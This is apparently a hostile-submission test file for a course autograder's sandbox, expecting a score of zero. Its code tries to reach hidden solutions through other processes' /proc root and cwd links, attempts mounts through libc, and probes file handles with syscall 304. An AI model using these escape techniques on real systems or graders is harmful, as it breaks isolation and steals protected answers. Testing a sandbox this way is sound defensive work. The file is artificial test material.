# tries: reaches the machine's files through the roots and the current folders of other processes, and by mounting
# expects: graded 0 0 0 0
# limits: graded 0 0 0 0 got
import ctypes
import os

got = []
for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    for link in ("root", "cwd"):
        path = f"/proc/{process}/{link}@COURSE@/solutions"
        if os.path.exists(path):
            got.append(path)
libc = ctypes.CDLL(None, use_errno=True)
for source, kind in ((b"proc", b"proc"), (b"none", b"tmpfs"), (b"@COURSE@", None)):
    os.makedirs("m", exist_ok=True)
    if libc.mount(source, b"m", kind, 4096 if kind is None else 0, None) == 0:
        got.append(source)
for number in (1, 2, 1_000):
    handle = ctypes.create_string_buffer(
        (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + number.to_bytes(8, "little")
    )
    if libc.syscall(304, -100, handle, 0) >= 0:
        got.append("handle")
print("TRIED")
if got:
    print("GOT", got[:3])


def double(x):
    return x
